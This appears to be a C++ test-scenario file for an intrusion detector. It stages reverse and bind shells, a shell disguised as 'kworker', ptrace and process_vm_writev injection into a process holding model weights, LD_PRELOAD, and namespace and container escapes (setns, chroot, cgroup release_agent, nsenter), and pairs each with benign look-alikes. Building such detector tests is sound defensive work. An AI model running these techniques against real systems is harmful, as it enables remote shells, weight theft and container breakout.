// SPDX-License-Identifier: Apache-2.0
// Somebody is in: shells whose input is the network or a terminal, code put into others, ways out of a workload's own world.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pty.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <fstream>

#include "tests/scenarios/stage.h"

namespace moat::scenarios {
namespace {

using event::FindingKind;
using Argv = std::vector<std::string>;

// ---- shells on sockets ----

// Half closed, so that the shell reads the end of its input and ends by itself.
int ConnectedForReading() {
  const int fd = Connect(kOutside, 443);
  Check(::shutdown(fd, SHUT_RD) == 0);
  return fd;
}

void BindShell() {
  const int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in name{.sin_family = AF_INET, .sin_port = htons(4444), .sin_addr = {}, .sin_zero = {}};
  Check(inet_pton(AF_INET, "10.66.0.2", &name.sin_addr) == 1);
  Check(::bind(listener, reinterpret_cast<const sockaddr*>(&name), sizeof(name)) == 0 && ::listen(listener, 1) == 0);
  const int caller = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  Check(::connect(caller, reinterpret_cast<const sockaddr*>(&name), sizeof(name)) == 0 && ::write(caller, "exit\n", 5) == 5);
  const int fd = ::accept(listener, nullptr, nullptr);
  Check(fd >= 0);
  RunWith(fd, fd, {"/bin/sh"});
}

// A program of this name where packages put theirs: under /opt, of which this process and its children have one of their own.
std::string Installed(const std::string& name) {
  Check(::unshare(CLONE_NEWNS) == 0 && ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0);
  Check(::mount("tmpfs", "/opt", "tmpfs", MS_NOSUID, nullptr) == 0);
  return CopyOf({.weights = "", .canary = "", .directory = "", .scratch = "/opt"}, "/bin/sh", name);
}

std::string Script(const Site& site, const std::string& name, const std::string& text) {
  const std::string path = site.scratch + "/" + name;
  std::ofstream(path) << text;
  return path;
}

void Inetd(const Site& site) {
  const std::string inetd = Installed("inetd"), greeting = Script(site, "greet.sh", "echo hello\n");
  const int fd = ConnectedForReading();
  const std::string number = std::to_string(fd);
  Run({inetd, "-c", "/bin/sh " + greeting + " <&" + number + " >&" + number + " 2>&" + number + "; true"});
}

// ---- shells at terminals ----

void AtATerminal(const Argv& argv, const char* typed) {
  int terminal = -1;
  const pid_t pid = ::forkpty(&terminal, nullptr, nullptr, nullptr);
  if (pid == 0) {
    Execute(argv.front(), argv);
  }
  Check(pid > 0 && ::write(terminal, typed, std::strlen(typed)) == static_cast<ssize_t>(std::strlen(typed)));
  char block[4096];
  while (::read(terminal, block, sizeof(block)) > 0) {  // EIO when the last one there has gone
  }
  int status = 0;
  Check(::waitpid(pid, &status, 0) == pid);
}

void Glance(const Site& site) {
  InChild([&] { ReadFile(site.weights, 0.1); });
}

// As runc does it: what it starts is its child, in the workload's cgroup.
void ByRuntime(const std::string& runtime, const std::string& line) { Run({runtime, "-c", line + "; true"}); }

// ---- from process to process ----

// A child that does this and then stays until it is no longer needed.
class Victim {
 public:
  explicit Victim(const std::function<void()>& work) {
    int ready[2];
    Check(::pipe2(ready, O_CLOEXEC) == 0);
    pid_ = ::fork();
    if (pid_ == 0) {
      work();
      Check(::write(ready[1], "", 1) == 1);
      for (;;) {
        ::pause();
      }
    }
    char byte = 0;
    Check(pid_ > 0 && ::read(ready[0], &byte, 1) == 1);
  }
  ~Victim() {
    ::kill(pid_, SIGKILL);
    ::waitpid(pid_, nullptr, 0);
  }
  Victim(const Victim&) = delete;
  Victim& operator=(const Victim&) = delete;
  pid_t pid() const { return pid_; }

 private:
  pid_t pid_ = -1;
};

void Attach(pid_t pid) {
  Check(::ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0 && ::waitpid(pid, nullptr, __WALL) == pid);
  Check(::ptrace(PTRACE_DETACH, pid, nullptr, nullptr) == 0);
}

char shared[64] = "weights";  // where it lies in this process, it lies in its children

bool Copy(pid_t pid) {
  char here[64];
  const iovec local{.iov_base = here, .iov_len = sizeof(here)}, remote{.iov_base = shared, .iov_len = sizeof(shared)};
  return ::process_vm_readv(pid, &local, 1, &remote, 1, 0) == static_cast<ssize_t>(sizeof(here));
}

// Another program, which has opened the weights before it became that.
class Holder {
 public:
  explicit Holder(const Site& site) : pid_(::fork()) {
    if (pid_ == 0) {
      const int fd = ::open(site.weights.c_str(), O_RDONLY);
      Check(fd >= 0 && ::read(fd, shared, sizeof(shared)) > 0);
      Execute("/usr/bin/sleep", {"sleep", "60"});
    }
    for (std::string comm; comm != "sleep";) {
      std::ifstream("/proc/" + std::to_string(pid_) + "/comm") >> comm;
    }
  }
  ~Holder() {
    ::kill(pid_, SIGKILL);
    ::waitpid(pid_, nullptr, 0);
  }
  Holder(const Holder&) = delete;
  Holder& operator=(const Holder&) = delete;
  pid_t pid() const { return pid_; }

 private:
  pid_t pid_;
};

// Where a process has memory that it may write, by process_vm_readv or process_vm_writev: what lies there is read, or nothing much is changed.
bool Reach(long call, pid_t pid) {
  std::ifstream maps("/proc/" + std::to_string(pid) + "/maps");
  uint64_t begin = 0;
  for (std::string line; begin == 0 && std::getline(maps, line);) {
    begin = line.find(" rw-p ") != std::string::npos ? std::stoull(line, nullptr, 16) : 0;
  }
  char here[8] = {};
  const iovec local{.iov_base = here, .iov_len = sizeof(here)};
  const iovec remote{.iov_base = reinterpret_cast<void*>(begin), .iov_len = sizeof(here)};
  return ::syscall(call, pid, &local, 1ul, &remote, 1ul, 0ul) == static_cast<long>(sizeof(here));
}

constexpr const char* kLibrary = "libutil.so.1";  // what is preloaded does not matter

// ---- worlds ----

void OwnMounts() { Check(::unshare(CLONE_NEWNS) == 0 && ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0); }

std::string Directory(const Site& site, const char* name) {
  const std::string path = site.scratch + "/" + name;
  Check(::mkdir(path.c_str(), 0755) == 0);
  return path;
}

int OwnMountNamespace() {
  const int fd = ::open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
  Check(fd >= 0);
  return fd;
}

constexpr const char* kRunc = "/usr/sbin/runc";
std::string WithoutRunc() {
  return ::access(kRunc, X_OK) == 0 ? "" : std::string("it needs ") + kRunc + ", which is not installed";
}

// The real runc: a container whose cgroup lies in the stage's, with /usr of this host. more: capabilities, "" or
// "CAP_X", ..."; own_processes: in a process namespace of its own.
void Container(const Site& site, const std::string& command, const std::string& more, bool own_processes) {
  OwnMounts();
  // runc keeps to version 2 when that is all there is: nothing is made in other hierarchies.
  std::string cgroup;
  {
    std::ifstream file("/proc/self/cgroup");
    for (std::string line; std::getline(file, line);) {
      cgroup = line.starts_with("0::") ? line.substr(3) : cgroup;
    }
  }
  const std::string bundle = Directory(site, "bundle"), root = Directory(site, "bundle/root");
  if (::access("/sys/fs/cgroup/unified", F_OK) == 0) {
    Check(::mount("/sys/fs/cgroup/unified", "/sys/fs/cgroup", nullptr, MS_BIND, nullptr) == 0);
  }
  for (const char* name : {"usr", "proc", "dev", "sys"}) {
    Directory(site, (std::string("bundle/root/") + name).c_str());
  }
  for (const char* name : {"bin", "lib", "lib64"}) {
    Check(::symlink((std::string("usr/") + name).c_str(), (root + "/" + name).c_str()) == 0);
  }
  const std::string capabilities = "[\"CAP_KILL\"" + more + "]";
  std::ofstream(bundle + "/config.json")
      << R"({"ociVersion": "1.0.2", "root": {"path": "root"}, "process": {"user": {"uid": 0, "gid": 0}, "cwd": "/", "args": ["/bin/sh", "-c", ")"
      << command << R"("], "env": ["PATH=/usr/sbin:/usr/bin"], "capabilities": {"bounding": )" << capabilities
      << R"(, "effective": )" << capabilities << R"(, "permitted": )" << capabilities << R"(}}, "mounts": [)"
      << R"({"destination": "/proc", "type": "proc", "source": "proc"}, )"
      << R"({"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "mode=755"]}, )"
      << R"({"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["ro"]}, )"
      << R"({"destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup", "options": ["ro"]}, )"
      << R"({"destination": "/usr", "type": "bind", "source": "/usr", "options": ["rbind", "ro"]}], )"
      << R"("linux": {"cgroupsPath": ")" << cgroup
      << R"(/container", "namespaces": [{"type": "mount"}, {"type": "uts"}, {"type": "ipc"})"
      << (own_processes ? R"(, {"type": "pid"})" : "") << R"(, {"type": "cgroup"}], "maskedPaths": ["/proc/kcore"], )"
      << R"("readonlyPaths": ["/proc/sys"]}})";
  Run({kRunc, "--root", site.scratch + "/state", "run", "--bundle", bundle, "moat-scenario"});
}

const Scenario kAll[] = {
    {"shell-calls-back", FindingKind::kReverseShell, kAttack, "calls a peer and gives a shell its socket",
     [](const Site&) {
       const int fd = ConnectedForReading();
       RunWith(fd, fd, {"/bin/sh", "-i"});
     }},
    {"shell-that-listens", FindingKind::kReverseShell, kAttack, "accepts a call and gives a shell its socket",
     [](const Site&) { BindShell(); }},
    {"shell-by-another-name", FindingKind::kReverseShell, kAttack, "the same with a copy of a shell",
     [](const Site& site) {
       const std::string copy = CopyOf(site, "/bin/sh", "kworker");
       const int fd = ConnectedForReading();
       RunWith(fd, fd, {copy});
     }},
    {"shell-on-a-socketpair", FindingKind::kReverseShell, kOrdinary, "an editor's helper: a shell on a socket of this host",
     [](const Site&) {
       int ends[2];
       Check(::socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0 && ::write(ends[1], "exit\n", 5) == 5);
       RunWith(ends[0], ends[0], {"/bin/sh"});
     }},
    {"super-server", FindingKind::kReverseShell, kOrdinary, "inetd, which runs a script for each connection", Inetd},
    {"output-to-the-network", FindingKind::kReverseShell, kOrdinary, "a program whose output alone goes to a peer",
     [](const Site&) {
       const int fd = Connect(kOutside, 443), null = ::open("/dev/null", O_RDONLY | O_CLOEXEC);
       RunWith(null, fd, {"/bin/sh", "-c", "echo done"});
     }},

    {"debugger", FindingKind::kCodeInjection, kAttack, "attaches to a process that has opened the weights",
     [](const Site& site) {
       const Victim victim([&] { ReadFile(site.weights, 0.1); });
       InChild([&] { Attach(victim.pid()); });
     }},
    {"memory-written", FindingKind::kCodeInjection, kAttack, "writes into the memory of another program, which holds the weights",
     [](const Site& site) {
       const Holder holder(site);
       InChild([&] { Check(Reach(SYS_process_vm_writev, holder.pid())); });
     }},
    {"memory-read", FindingKind::kCodeInjection, kAttack, "reads the memory of another program, which holds the weights",
     [](const Site& site) {
       const Holder holder(site);
       InChild([&] { Check(Reach(SYS_process_vm_readv, holder.pid())); });
     }},
    {"preload", FindingKind::kCodeInjection, kAttack, "runs a reader of the weights with a library of its choice in it",
     [](const Site& site) {
       Check(::setenv("LD_PRELOAD", kLibrary, 1) == 0);
       Run({"/usr/bin/head", "-c", "1000", site.weights});
     }},
    {"debug-a-child", FindingKind::kCodeInjection, kOrdinary, "debugs a reader of the weights that it has started",
     [](const Site& site) {
       const Victim victim([&] { ReadFile(site.weights, 0.1); });
       Attach(victim.pid());
     }},
    {"ranks", FindingKind::kCodeInjection, kOrdinary, "ranks of one program, which copy from each other",
     [](const Site& site) {
       const Victim first([&] { ReadFile(site.weights, 0.1); });
       InChild([&] {
         ReadFile(site.weights, 0.1);
         Check(Copy(first.pid()));
       });
     }},
    {"preload-from-outside", FindingKind::kCodeInjection, kOrdinary, "a container whose description preloads an allocator",
     [](const Site& site) {
       const std::string shim = Installed("containerd-shim-runc-v2");
       ByRuntime(shim, std::string("LD_PRELOAD=") + kLibrary + " /usr/bin/env /usr/bin/head -c 1000 " + site.weights);
     }},
    {"attach-to-others", FindingKind::kCodeInjection, kOrdinary, "attaches to a process that holds nothing",
     [](const Site&) {
       const Victim victim([] {});
       InChild([&] { Attach(victim.pid()); });
     }},

    {"shell-at-a-terminal", FindingKind::kInteractiveShell, kAttack,
     "a server of weights that makes a terminal and runs a shell at it",
     [](const Site& site) {
       Glance(site);
       AtATerminal({"/bin/bash"}, "exit\n");
     }},
    {"exec-of-a-shell", FindingKind::kInteractiveShell, kAttack,
     "a runtime's exec of a shell that reads commands, beside the weights",
     [](const Site& site) {
       const std::string runtime = Installed("runc");
       Glance(site);
       ByRuntime(runtime, "echo id | /bin/sh >/dev/null");
     }},
    {"exec-that-copies", FindingKind::kInteractiveShell, kAttack, "a runtime's exec of a copy of the weights (kubectl cp)",
     [](const Site& site) {
       const std::string runtime = Installed("runc");
       Glance(site);
       ByRuntime(runtime, "/usr/bin/head -c 1000000 " + site.weights + " >/dev/null");
     }},
    {"terminal-without-weights", FindingKind::kInteractiveShell, kOrdinary, "a shell at a terminal where no weights are",
     [](const Site&) { AtATerminal({"/bin/bash"}, "exit\n"); }},
    {"script-at-a-terminal", FindingKind::kInteractiveShell, kOrdinary, "a training that somebody has started from a terminal",
     [](const Site& site) {
       Glance(site);
       AtATerminal({"/bin/sh", Script(site, "train.sh", "/bin/sh -c 'true; true'\n")}, "");
     }},
    {"shell-before-the-weights", FindingKind::kInteractiveShell, kOrdinary, "somebody at a terminal, who then opens the weights",
     [](const Site& site) {
       AtATerminal({"/bin/bash", "--norc"},
                   ("head -c 1000 " + site.weights + " >/dev/null\nbash -c 'true; true'\nbash\nexit\nexit\n").c_str());
     }},
    {"probes", FindingKind::kInteractiveShell, kOrdinary, "a runtime's exec of probes, again and again",
     [](const Site& site) {
       const std::string runtime = Installed("runc");
       Glance(site);
       for (int i = 0; i < 5; ++i) {
         ByRuntime(runtime, "/bin/sh -c 'true; true'; /bin/true");
       }
     }},

    {"join-another-world", FindingKind::kNamespaceEscape, kAttack, "from mounts of its own into those of another process",
     [](const Site&) {
       const int outside = OwnMountNamespace();
       OwnMounts();
       InChild([&] { Check(::setns(outside, CLONE_NEWNS) == 0); });
     }},
    {"cgroup-mount", FindingKind::kNamespaceEscape, kAttack, "mounts a hierarchy of cgroups, for its release_agent",
     [](const Site& site) {
       OwnMounts();
       const std::string where = Directory(site, "cgroup");
       (void)::mount("none", where.c_str(), "cgroup", 0, "memory");  // one that is there; with version 2 alone it is an attempt
       (void)::umount2(where.c_str(), MNT_DETACH);
     }},
    {"disk-mount", FindingKind::kNamespaceEscape, kAttack, "tries to mount a disk",
     [](const Site& site) {
       OwnMounts();
       Check(::mount("/dev/moat-no-such-disk", Directory(site, "disk").c_str(), "ext4", MS_RDONLY, nullptr) != 0);
     }},
    {"module", FindingKind::kNamespaceEscape, kAttack, "tries to load a kernel module",
     [](const Site& site) {
       const int fd = ::open(Script(site, "rootkit.ko", std::string(4096, 'x')).c_str(), O_RDONLY | O_CLOEXEC);
       Check(fd >= 0 && ::syscall(SYS_finit_module, fd, "", 0) != 0);
     }},
    {"another-root", FindingKind::kNamespaceEscape, kAttack, "takes the root of another process for its own",
     [](const Site&) {
       const std::string root = "/proc/" + std::to_string(::getpid()) + "/root";
       InChild([&] {
         OwnMounts();
         Check(::chroot(root.c_str()) == 0);
       });
     }},
    {"out-of-a-container", FindingKind::kNamespaceEscape, kAttack,
     "a privileged container of runc goes to a process outside (nsenter)",
     [](const Site& site) {
       const std::string outside = std::to_string(::getpid());
       Container(site, "nsenter --target " + outside + " --mount true; true",
                 R"(, "CAP_SYS_ADMIN", "CAP_SYS_CHROOT", "CAP_SYS_PTRACE")",
                 /*own_processes=*/false);
     },
     "", "", WithoutRunc},
    {"container", FindingKind::kNamespaceEscape, kOrdinary, "runc makes a container, which does nothing else",
     [](const Site& site) { Container(site, "true; true", "", /*own_processes=*/true); }, "", "", WithoutRunc},
    {"sandbox", FindingKind::kNamespaceEscape, kOrdinary, "a sandbox: namespaces, mounts and a root of its own",
     [](const Site& site) {
       const std::string root = Directory(site, "root");
       InChild([&] {
         Check(::unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWIPC) == 0);
         std::ofstream("/proc/self/setgroups") << "deny";
         std::ofstream("/proc/self/uid_map") << "0 0 1";
         std::ofstream("/proc/self/gid_map") << "0 0 1";
         Check(::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0);
         Check(::mount("tmpfs", root.c_str(), "tmpfs", MS_NOSUID, nullptr) == 0);
         const std::string usr = root + "/usr", old = root + "/old";
         Check(::mkdir(usr.c_str(), 0755) == 0 && ::mkdir(old.c_str(), 0755) == 0);
         Check(::mount("/usr", usr.c_str(), nullptr, MS_BIND | MS_REC, nullptr) == 0);
         Check(::chdir(root.c_str()) == 0 && ::syscall(SYS_pivot_root, ".", "old") == 0 && ::chroot(".") == 0);
       });
     }},
    {"own-proc", FindingKind::kNamespaceEscape, kOrdinary, "mounts the /proc of a process namespace of its own",
     [](const Site&) {
       OwnMounts();
       Check(::unshare(CLONE_NEWPID) == 0);
       InChild([] { Check(::mount("proc", "/proc", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, nullptr) == 0); });
     }},
    {"there-and-back", FindingKind::kNamespaceEscape, kOrdinary, "goes back into the namespace that it has left",
     [](const Site&) {
       const int before = OwnMountNamespace();
       OwnMounts();
       Check(::setns(before, CLONE_NEWNS) == 0);
     }},
};

}  // namespace

std::span<const Scenario> Intrusion() { return kAll; }

}  // namespace moat::scenarios
